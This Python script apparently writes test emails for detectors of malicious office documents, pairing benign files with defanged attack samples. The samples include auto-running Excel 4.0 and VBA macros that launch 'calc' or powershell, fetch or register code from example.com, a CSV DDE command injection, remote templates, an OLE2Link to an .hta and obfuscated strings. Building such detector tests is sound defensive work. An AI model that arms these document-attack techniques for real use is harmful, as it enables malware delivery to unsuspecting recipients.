#!/usr/bin/env python3
"""Write the golden mails of the detectors that look into documents: tests/mail/DETECTOR/hit.eml and miss.eml.

Each document is made here from nothing (tests/lib/office.py); every miss is what an ordinary office sends."""
import base64
import pathlib
import sys

here = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(here.parent / "lib"))
import office  # noqa: E402


def mail(detector, kind, name, data, text="Please see the attached file."):
    folder = here / detector
    folder.mkdir(exist_ok=True)
    encoded = base64.encodebytes(data).decode()
    (folder / f"{kind}.eml").write_text(f"""Date: Mon, 02 Nov 2026 09:20:00 +0800
From: Ann Example <ann@example.com>
To: bo@example.cn
Subject: Figures for October
Message-ID: <2026110209.{detector}.{kind}@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mix.1"

--mix.1
Content-Type: text/plain; charset=utf-8

{text}

--mix.1
Content-Type: application/octet-stream; name="{name}"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="{name}"

{encoded}
--mix.1--
""")


def pair(detector, hit, miss):
    mail(detector, "hit", *hit)
    mail(detector, "miss", *miss)


ALERT = office.text_token("Good morning") + office.call_token(0x8076, 1)
HALT = office.call_token(54, 0)
EXEC = office.text_token("ca") + office.text_token("lc") + b"\x08" + office.call_token(110, 1)
REGISTER = (office.text_token("http://exam") + office.text_token("ple.com/a.dll") + b"\x08" + office.call_token(0x8076, 1))
DATA = ("Sheet1", 0, False, office.label(0, "Turnover in October"))


def book(tokens, hidden=0, auto=False):
    macro = b"".join(office.formula(row, t) for row, t in enumerate(tokens))
    return office.xls([DATA, ("Macro1", hidden, True, macro)], auto=auto)


plain = ("figures.xls", office.xls([DATA, ("Prices", 2, False, office.label(0, "hidden prices"))]))
pair("xlm_macro", ("figures.xls", book([ALERT, HALT])), plain)
pair("xlm_starts", ("figures.xls", book([ALERT, HALT], auto=True)), ("figures.xls", book([ALERT, HALT])))
pair("xlm_hidden", ("figures.xls", book([ALERT, HALT], hidden=2)), ("figures.xls", book([ALERT, HALT])))
pair("xlm_executes", ("figures.xls", book([EXEC, HALT], auto=True)), ("figures.xls", book([ALERT, HALT], auto=True)))
pair("xlm_fetches", ("figures.xls", book([REGISTER, HALT])),
     ("figures.xls", office.xls([("Sheet1", 0, False, office.label(0, "See http://example.com/prices"))])))

text = office.paragraph("Minutes of the meeting. Nothing was decided.")
dde_excel = office.field(" DDE Excel ", "Sheet1 R1C1 ")
pair("dde_link", ("minutes.docx", office.docx(text + office.field(" DDEA", "UTO appl", "ication topic "))),
     ("minutes.docx", office.docx(text + office.field(" DATE \\@ ", "&quot;d.M.yyyy&quot; ") +
                                  office.paragraph("The dde department answers."))))
pair("dde_command", ("figures.csv", b"name,amount\r\nAnn,=cmd|'/c calc'!A0\r\n"),
     ("figures.csv", b"name,amount,rule\r\nAnn,=A1+1,a|b!c\r\nBo,-3,\"cmd | more!\"\r\n"))
pair("remote_template",
     ("minutes.docx", office.docx(text, more={"word/_rels/settings.xml.rels": office.relations(
         [("rId1", "attachedTemplate", "http://example.com/t.dotm", True)])})),
     ("minutes.docx", office.docx(text, more={"word/_rels/settings.xml.rels": office.relations(
         [("rId1", "attachedTemplate", "file:///C:\\Users\\ann\\Templates\\letter.dotm", True)])})))
pair("external_object",
     ("minutes.docx", office.docx(text, [("rId9", "oleObject", "https://example.com/p.html!", True)])),
     ("minutes.docx", office.docx(text, [("rId9", "image", "https://example.com/logo.png", True),
                                         ("rId10", "hyperlink", "https://example.com/", True)])))


def doc(source, compiled=b"\x16\1" + bytes(254), unlisted=()):
    modules = {"ThisDocument": ("", b"\x16\1" + bytes(254)), "Module1": (source, compiled)}
    return "letter.doc", office.word97("Minutes of the meeting.", {"Macros": office.vba_project(modules, unlisted)})


DATES = 'Sub InsertDate()\nSelection.TypeText Format(Date, "d mmmm yyyy")\nEnd Sub\n'
OPENS = 'Sub AutoOpen()\nActiveDocument.Fields.Update\nMsgBox "Good " & "morning"\nEnd Sub\n'
SHELL = 'Sub AutoOpen()\nDim x\nx = "ca" & "lc"\nShell x\nEnd Sub\n'
FETCH = ('Sub Report()\nu = "http://exam" & "ple.com/a.txt"\nSet h = CreateObject("MSXML2.XML" & "HTTP")\n'
         'h.Open "GET", u, False\nh.Send\nEnd Sub\n')
DROP = ('Sub Document_Open()\np = "pow" & "ersh" & Chr(101) & "ll -c calc"\n'
        'CreateObject("WScr" & "ipt.Sh" & "ell").Run p\nEnd Sub\n')
HIDDEN = ("Sub Report()\nx = " + " & ".join(f"Chr({ord(c) + 3}-3)" for c in "Good morning to everybody here") +
          "\nMsgBox x\nEnd Sub\n")
pair("vba_starts", doc(SHELL), doc(OPENS))
pair("vba_fetches", doc(FETCH), doc(DATES))
pair("vba_dropper", doc(DROP), doc(SHELL.replace("AutoOpen", "Report")))
pair("vba_obfuscated", doc(HIDDEN), doc('Sub Report()\nMsgBox "a" & Chr(13) & Chr(10) & "b" & Chr(34)\nEnd Sub\n'))
pair("vba_stomped", doc("", b"\x16\1" + bytes(2000) + b"\xb9\0\x13\0http://example.com/a" + bytes(2000)),
     doc(FETCH, b"\x16\1" + bytes(200) + b"\xb9\0\x13\0Good morning to all" + bytes(200)))
pair("vba_unlisted", doc(DATES, unlisted=("Module1",)), doc(DATES))

note = ("letter.rtf", office.rtf("Minutes of the meeting."))
EQUATION = office.compound({"Equation Native": bytes(64), "\1Ole": bytes(20)},
                           bytes.fromhex("02ce020000000000c000000000000046"))
SHEET = office.xls([DATA])
pair("equation_object", ("letter.rtf", office.rtf("Minutes", office.rtf_object(office.ole1(b"Equation.3", EQUATION)))),
     ("letter.rtf", office.rtf("The equation.3 is wrong", office.rtf_object(office.ole1(b"Excel.Sheet.8", SHEET)))))
pair("object_disguised",
     ("letter.rtf", office.rtf("Minutes", office.rtf_object(office.ole1(b"Excel.Sheet.8", SHEET), noise="{\\*\\a}"))),
     ("letter.rtf", office.rtf("Minutes", office.rtf_object(office.ole1(b"Excel.Sheet.8", SHEET)))))
MONIKER = office.compound({"\1Ole": bytes(20) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + bytes([60, 0, 0, 0]) +
                           "http://example.com/a.hta".encode("utf-16-le") + bytes(2)},
                          bytes.fromhex("0003000000000000c000000000000046"))
pair("exploit_shape", ("letter.rtf", office.rtf("Minutes", "{\\shp{\\*\\shpinst{\\sp{\\sn pFragments}{\\sv 1;1;" + "61" * 300 + "}}}}")),
     ("letter.rtf", office.rtf("Minutes", "{\\shp{\\*\\shpinst{\\sp{\\sn pVerticies}{\\sv 8;5;" + "(1,2);" * 100 + "}}}}")))
pair("link_object",
     ("letter.rtf", office.rtf("Minutes", office.rtf_object(office.ole1(b"OLE2Link", MONIKER), "\\objautlink\\objupdate"))),
     ("letter.rtf", office.rtf("Minutes", office.rtf_object(office.ole1(b"Excel.Sheet.8", SHEET), "\\objemb\\objupdate"))))
BATCH = b"@echo off\r\necho Good morning\r\n"
pair("embedded_program",
     ("notes.one", office.onenote(BATCH, "Double click to view the file")),
     ("notes.one", office.onenote(b"\x89PNG\r\n\x1a\n" + bytes(60), "Minutes of the meeting with a picture")))


def with_package(name, data):
    ole = office.compound({"\1Ole10Native": office.package_native(name, data)},
                          bytes.fromhex("0c00030000000000c000000000000046"))
    return "minutes.docx", office.docx(text, [("rId9", "oleObject", "embeddings/oleObject1.bin", False)],
                                       {"word/embeddings/oleObject1.bin": ole})


pair("embedded_package", with_package(b"view.txt", b"Good morning"),
     ("minutes.docx", office.docx(text, [("rId9", "package", "embeddings/sheet1.xlsx", False)],
                                  {"word/embeddings/sheet1.xlsx": office.xlsx('<row r="1"/>')})))
pair("default_password", ("figures.xls", office.locked_workbook([DATA], "VelvetSweatshop")),
     ("figures.xls", office.xls([DATA]), "The password: is not needed"))
